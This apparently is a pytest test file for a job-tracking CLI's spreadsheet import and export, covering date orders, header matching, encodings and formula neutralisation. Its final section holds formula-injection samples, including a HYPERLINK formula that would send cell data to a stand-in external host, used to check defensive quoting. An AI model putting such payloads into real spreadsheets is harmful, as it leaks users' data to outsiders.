"""Sheets as the tools people use write them: date columns in the country's order (one order
per column), headers matched by their words, the text encodings Excel writes, and cells a
spreadsheet would run as formulas.

Every command runs on Sun 29 Nov 2026 at 12:00 in New York (the ``cli`` fixture's clock).
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

from tests.support.specs import Cli, ok, store_bytes


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    return tmp_path


def country(config_file: Path, code: str) -> None:
    config_file.write_text(f'[calendar]\ncountry = "{code}"\ntimezone = "America/New_York"\n')


def expected_days(cli: Cli) -> list[tuple[str, str]]:
    return [
        (i["company"], i["reply_expected_on"])
        for i in json.loads(ok(cli("list", "--all", "--json")))
    ]


def report(cli: Cli, name: str, *more: str) -> dict[str, Any]:
    data: dict[str, Any] = json.loads(ok(cli("import", name, "--json", *more)))
    return data


# -- one order per date column ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("code", "rows", "days", "reordered"),
    [
        pytest.param(
            "GB", "A,12/01/2027\nB,13/01/2027\n", ["2027-01-12", "2027-01-13"], [],
            id="GB: 12/01 and 13/01 are 12 and 13 January",
        ),
        pytest.param(
            "US", "A,12/01/2027\nB,11/30/2026\n", ["2027-12-01", "2026-11-30"], [],
            id="US: month first",
        ),
        pytest.param(
            "US", "A,12/01/2027\nB,13/01/2027\n", ["2027-01-12", "2027-01-13"],
            [{"header": "Reply By", "order": "dmy", "decided_by": ["13/01/2027"]}],
            id="US: a column only day-first fits is read day-first, whole",
        ),
        pytest.param(
            "DE", "A,05.01.2027\nB,2027-01-06\n", ["2027-01-05", "2027-01-06"], [],
            id="DE: dots, and ISO beside them",
        ),
        pytest.param(
            "CN", "A,2027/1/5\nB,13/01/2027\nC,05/01/2027\n",
            ["2027-01-05", "2027-01-13", "2027-01-05"],
            [{"header": "Reply By", "order": "dmy", "decided_by": ["13/01/2027"]}],
            id="CN: year first; year-last dates read the one way that fits them all",
        ),
    ],
)  # fmt: skip
def test_a_date_column_is_read_in_one_order(
    cli: Cli, config_file: Path, folder: Path, code: str, rows: str, days: list[str],
    reordered: list[dict[str, Any]],
) -> None:  # fmt: skip
    country(config_file, code)
    (folder / "sheet.csv").write_text("Company,Reply By\n" + rows)
    data = report(cli, "sheet.csv")
    assert data["reordered"] == reordered
    assert [day for _c, day in expected_days(cli)] == days


def test_the_report_says_a_column_was_read_the_other_way(cli: Cli, folder: Path) -> None:
    (folder / "sheet.csv").write_text("Company,Reply By\nA,12/01/2027\nB,13/01/2027\n")
    assert ok(cli("import", "sheet.csv", "--dry-run")) == (
        "Encoding: UTF-8\n"
        "Columns: 'Company' -> company, 'Reply By' -> expected\n"
        "Dates: column 'Reply By' read day first (dmy), not month first: only that fits "
        "13/01/2027\n"
        "line 2: add A, expected 2027-01-12\n"
        "line 3: add B, expected 2027-01-13\n"
        "Would add 2, change 0; 0 already present.\n"
    )


def test_a_column_no_one_order_fits_is_refused_naming_it(
    cli: Cli, folder: Path, db_path: Path
) -> None:
    ok(cli("add", "Acme", "--expect", "2026-11-23"))
    before = store_bytes(db_path)
    (folder / "sheet.csv").write_text("Company,Reply By\nA,13/01/2027\nB,01/13/2027\n")
    result = cli("import", "sheet.csv")
    assert (result.code, result.out) == (2, "")
    assert result.err == (
        "error: sheet.csv line 2, column 'Reply By': unreadable date '13/01/2027': "
        "calendar.date_order is 'mdy' (month first), which makes no such day; write "
        "2027-01-13 if you mean it\n"
    )
    assert store_bytes(db_path) == before


def test_a_year_first_countrys_column_mixing_orders_is_refused(
    cli: Cli, config_file: Path, folder: Path, db_path: Path
) -> None:
    country(config_file, "CN")
    ok(cli("add", "Acme", "--expect", "2026-11-23"))
    before = store_bytes(db_path)
    (folder / "sheet.csv").write_text("Company,Reply By\nA,13/01/2027\nB,01/14/2027\n")
    result = cli("import", "sheet.csv")
    assert (result.code, result.out) == (2, "")
    assert result.err == (
        "error: sheet.csv, column 'Reply By': its dates fit no one order: '13/01/2027' reads "
        "only day first, '01/14/2027' only month first; write them as YYYY-MM-DD\n"
    )
    assert store_bytes(db_path) == before


@pytest.mark.parametrize(
    ("cell", "direction_day"),
    [
        ("Jan 5", "2027-01-05"),  # a promised day: the next 5 January
        ("Nov 20", "2027-11-20"),
    ],
)
def test_a_sheets_dates_without_a_year_are_completed_and_said(
    cli: Cli, folder: Path, cell: str, direction_day: str
) -> None:
    (folder / "sheet.csv").write_text(f"Company,Interviewed,Reply By\nA,Nov 20,{cell}\n")
    data = report(cli, "sheet.csv")
    assert data["year_assumed"] == [
        {"line": 2, "header": "Interviewed", "day": "2026-11-20"},  # looks back
        {"line": 2, "header": "Reply By", "day": direction_day},
    ]


def test_open_rows_promised_long_ago_are_warned_of_in_one_line(cli: Cli, folder: Path) -> None:
    (folder / "sheet.csv").write_text(
        "Company,Reply By,Status\nA,2026-10-01,waiting\nB,2026-10-02,rejected\n"
        "C,2026-11-20,waiting\nD,2026-09-01,emailed\n"
    )
    result = cli("import", "sheet.csv")
    assert result.code == 2  # D says emailed without an emailed day
    (folder / "sheet.csv").write_text(
        "Company,Reply By,Status\nA,2026-10-01,waiting\nB,2026-10-02,rejected\n"
        "C,2026-11-20,waiting\nD,2026-09-01,\n"
    )
    result = cli("import", "sheet.csv")
    assert result.code == 0
    assert result.err == (
        "warning: 2 rows promise a reply day more than 30 days ago (line 2, 5): "
        "their reminders are already due\n"
    )


# -- headers matched by their words -----------------------------------------------------------


@pytest.mark.parametrize(
    ("headers", "columns", "unclear"),
    [
        pytest.param(
            ["Company Name", "Hiring Manager Email", "Reply By"],
            [("Company Name", "company"), ("Hiring Manager Email", "email"),
             ("Reply By", "expected")],
            [], id="an email header that names a person too is the email",
        ),
        pytest.param(
            ["Employer (legal name)", "Job Position", "Recruiter's name", "Reply by date"],
            [("Employer (legal name)", "company"), ("Job Position", "role"),
             ("Recruiter's name", "contact"), ("Reply by date", "expected")],
            [], id="a header containing a field's word",
        ),
        pytest.param(
            ["Company", "Company Website", "Expected", "Recruiter Phone"],
            [("Company", "company"), ("Expected", "expected")],
            [{"header": "Company Website", "fields": ["company"]},
             {"header": "Recruiter Phone", "fields": ["contact"]}],
            id="a header naming something not kept is reported, not read",
        ),
        pytest.param(
            ["Company", "Organisation", "Expected"],
            [("Company", "company"), ("Expected", "expected")],
            [], id="two known names for one field",  # refused: see below
        ),
        pytest.param(
            ["Company", "Parent company", "Decision deadline"],
            [("Company", "company"), ("Decision deadline", "expected")],
            [{"header": "Parent company", "fields": ["company"]}],
            id="a known name wins over a word match, which is reported",
        ),
        pytest.param(
            ["Company", "Role / Company", "Expected"],
            [("Company", "company"), ("Expected", "expected")],
            [{"header": "Role / Company", "fields": ["company", "role"]}],
            id="an ambiguous header is reported, never guessed",
        ),
        pytest.param(
            ["Organization", "Email sent", "Response date", "Respond by", "Application Stage"],
            [("Organization", "company"), ("Email sent", "emailed"),
             ("Response date", "replied"), ("Respond by", "expected"),
             ("Application Stage", "status")],
            [], id="date fields by the word that says which date",
        ),
    ],
)  # fmt: skip
def test_headers_are_matched_by_their_words(
    cli: Cli, folder: Path, headers: list[str], columns: list[tuple[str, str]],
    unclear: list[dict[str, Any]],
) -> None:  # fmt: skip
    out = io.StringIO()
    csv.writer(out).writerow(headers)
    (folder / "sheet.csv").write_text(out.getvalue())
    result = cli("import", "sheet.csv", "--dry-run", "--json")
    if headers[:2] == ["Company", "Organisation"]:
        assert json.loads(result.err) == {
            "error": {
                "code": "usage",
                "message": "sheet.csv: the columns 'Company' and 'Organisation' both mean "
                "company; rename or remove one",
            }
        }
        return
    data = json.loads(ok(result))
    assert [(c["header"], c["field"]) for c in data["columns"]] == columns
    assert data["unclear"] == unclear


def test_an_unclear_header_is_named_in_the_text_report(cli: Cli, folder: Path) -> None:
    (folder / "sheet.csv").write_text(
        "Company,Role / Company,Recruiter Phone,Parent company,Expected\n"
    )
    assert ok(cli("import", "sheet.csv", "--dry-run")) == (
        "Encoding: UTF-8\n"
        "Columns: 'Company' -> company, 'Expected' -> expected\n"
        "Not read: 'Role / Company' is ambiguous: company or role\n"
        "Not read: 'Recruiter Phone' looks like contact, but names something else too\n"
        "Not read: 'Parent company' looks like company, which 'Company' gives\n"
        "Would add 0, change 0; 0 already present.\n"
    )


# -- encodings --------------------------------------------------------------------------------

TEXT = "Company\tRole\tReply By\nCafé Müller\tBäcker \u2013 Früh\t2026-12-10\n"


@pytest.mark.parametrize(
    ("data", "encoding", "bom", "said"),
    [
        (TEXT.encode("utf-8"), "utf_8", False, "UTF-8"),
        (b"\xef\xbb\xbf" + TEXT.encode("utf-8"), "utf_8", True,
         "UTF-8 with a byte-order mark"),
        (TEXT.encode("utf-16"), "utf_16_le", True,  # Excel's "Unicode Text"
         "UTF-16LE with a byte-order mark"),
        (b"\xfe\xff" + TEXT.encode("utf-16-be"), "utf_16_be", True,
         "UTF-16BE with a byte-order mark"),
        (TEXT.encode("cp1252"), "cp1252", False, "Windows-1252 (cp1252)"),
    ],
)  # fmt: skip
def test_the_encodings_excel_writes_are_read_and_named(
    cli: Cli, folder: Path, data: bytes, encoding: str, bom: bool, said: str
) -> None:
    (folder / "sheet.csv").write_bytes(data)
    result = report(cli, "sheet.csv", "--dry-run")
    assert (result["encoding"], result["bom"]) == (encoding, bom)
    assert ok(cli("import", "sheet.csv")).splitlines()[0] == f"Encoding: {said}"
    [row] = json.loads(ok(cli("list", "--json")))
    assert (row["company"], row["role"]) == ("Café Müller", "Bäcker \u2013 Früh")


# -- a dry run ----------------------------------------------------------------------------------


def test_a_dry_run_creates_no_store(cli: Cli, folder: Path, db_path: Path) -> None:
    (folder / "sheet.csv").write_text("Company,Reply By\nA,2026-12-10\n")
    assert not db_path.exists()
    out = ok(cli("import", "sheet.csv", "--dry-run"))
    assert out.endswith("line 2: add A, expected 2026-12-10\nWould add 1, change 0; "
                        "0 already present.\n")  # fmt: skip
    assert not db_path.exists()
    assert not db_path.parent.exists() or list(db_path.parent.iterdir()) == []


def test_a_dry_run_on_a_store_changes_no_byte(cli: Cli, folder: Path, db_path: Path) -> None:
    ok(cli("add", "Acme", "--expect", "2026-11-23"))
    before = store_bytes(db_path)
    (folder / "sheet.csv").write_text("Company,Reply By\nA,2026-12-10\nAcme,2026-11-23\n")
    ok(cli("import", "sheet.csv", "--dry-run"))
    assert store_bytes(db_path) == before


# -- formulas never run -------------------------------------------------------------------------

DANGEROUS = {
    "company": '=HYPERLINK("http://x.example/?"&A2,"portal")',
    "role": "@SUM(1+1)",
    "contact": "+1 555 0100",
    "email": "-x@example.com",
    "notes": "-2 rounds left",
    "subdivision": "'=quoted already",
}


def exported_rows(cli: Cli, folder: Path) -> list[dict[str, str]]:
    ok(cli("export", "-o", "out.csv"))
    return list(csv.DictReader(io.StringIO((folder / "out.csv").read_text())))


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://x.example/?"&A2,"portal")',
         '\'=HYPERLINK("http://x.example/?"&A2,"portal")'),
        ("+1 555 0100", "'+1 555 0100"),
        ("-2 rounds left", "'-2 rounds left"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("'=already quoted", "''=already quoted"),  # so that import gives it back whole
        ("'plain", "'plain"),
        ("Acme", "Acme"),
        ("A=B", "A=B"),
    ],
)  # fmt: skip
def test_a_cell_that_would_run_as_a_formula_gets_a_leading_quote(
    cli: Cli, folder: Path, value: str, cell: str
) -> None:
    ok(cli("add", "Acme", "--expect", "2026-12-10", "--note", value))
    [row] = exported_rows(cli, folder)
    assert row["notes"] == cell
    assert (row["expected"], row["status"]) == ("2026-12-10", "waiting")


def test_tab_and_carriage_return_starts_are_neutralised_too() -> None:
    from followup.transfer.spreadsheet.columns import neutralise, unneutralise

    for value in ("\tx", "\rx", "=1", "+1", "-1", "@1"):
        assert neutralise(value) == "'" + value
        assert unneutralise(neutralise(value)) == value


def test_a_sheet_with_every_dangerous_prefix_round_trips(
    cli: Cli, folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    d = DANGEROUS
    ok(
        cli(
            "add", d["company"], "--expect", "2026-12-10", "--role", d["role"],
            "--contact", d["contact"], "--email", "ann@x.example", "--note", d["notes"],
        )
    )  # fmt: skip
    ok(cli("add", "-Minus Corp", "--expect", "2026-12-11", "--note", "@mention"))
    ok(cli("add", "Plain", "--expect", "2026-12-12", "--note", "'=quoted already"))
    first = json.loads(ok(cli("list", "--all", "--json")))
    rows = exported_rows(cli, folder)
    assert [r["company"][0] for r in rows] == ["'", "'", "P"]
    # into a fresh store, as another machine would
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "other"))
    ok(cli("import", "out.csv"))
    again = json.loads(ok(cli("list", "--all", "--json")))
    keys = ("company", "role", "contact_name", "contact_email", "notes", "reply_expected_on")
    assert [{k: i[k] for k in keys} for i in again] == [{k: i[k] for k in keys} for i in first]
